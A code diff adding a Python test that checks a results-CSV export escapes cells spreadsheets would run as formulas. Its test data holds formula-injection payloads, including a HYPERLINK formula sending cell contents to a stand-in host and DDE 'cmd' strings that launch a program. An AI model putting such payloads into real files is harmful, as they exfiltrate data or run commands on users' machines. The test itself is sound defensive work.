@@ -203,3 +203,35 @@ def test_episodes_without_pandas_says_what_to_install(study: Path,
 def test_flat_rows_of_an_empty_store(tmp_path: Path) -> None:
     with Store.open(tmp_path / STORE_FILE) as store:
         assert flat_rows(store) == (list(FLAT_FIXED), [])
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_escaped(tmp_path: Path) -> None:
+    """Text from worlds, instances and agents that starts with `=`, `+`, `-`, `@`, a tab or
+    a carriage return was written as it was, and a spreadsheet opening results.csv ran it
+    as a formula (`=HYPERLINK(…)`). Such a cell now starts with `'` (OWASP); numbers, and
+    text that is only a number, stay as they are; the store and Parquet keep the values."""
+    hostile = {"eq": '=HYPERLINK("http://x.example/?"&A1,"open")', "at": "@SUM(A1:A9)",
+               "plus": "+cmd|' /C calc'!A0", "minus": "-1+cmd|' /C calc'!A0",
+               "tab": "\t=1+1", "cr": "\r=1+1", "dash": "-"}
+    plain = {"neg": -3, "negf": -2.5, "neg_text": "-2.5", "plus_text": "+4", "exp": "-1e3",
+             "mid": "a=b", "quote": "'=already"}
+    path = tmp_path / STORE_FILE
+    with Store.open(path) as store:
+        store.record(Attempt(Cell("d1", "=cmd()", "canonical", "@x", 0), 0, "=agents"), "d",
+                     {"measurements": {"realized": True}, "valid": False,
+                      "validity_reason": "-invalid+1", "metrics": {**hostile, **plain},
+                      "end_time": -30.0}, None)
+    result = CliRunner().invoke(app, ["export", str(tmp_path), "-o", str(tmp_path / "r.csv")])
+    assert result.exit_code == 0, result.output
+    with (tmp_path / "r.csv").open(encoding="utf-8", newline="") as fh:
+        (row,) = list(csv.DictReader(fh))
+    for name, value in hostile.items():
+        assert row[f"metric.{name}"] == "'" + value, name
+    assert (row["model"], row["instance"], row["agents"], row["validity_reason"]) == (
+        "'=cmd()", "'@x", "'=agents", "'-invalid+1")
+    for name, value in plain.items():
+        assert row[f"metric.{name}"] == str(value), name
+    assert row["end_time"] == "-30.0" and row["realized"] == "1"
+    with Store.open(path, create=False) as store:  # the data itself is not changed
+        (flat,) = flat_rows(store)[1]
+    assert flat["metric.eq"] == hostile["eq"] and flat["model"] == "=cmd()"
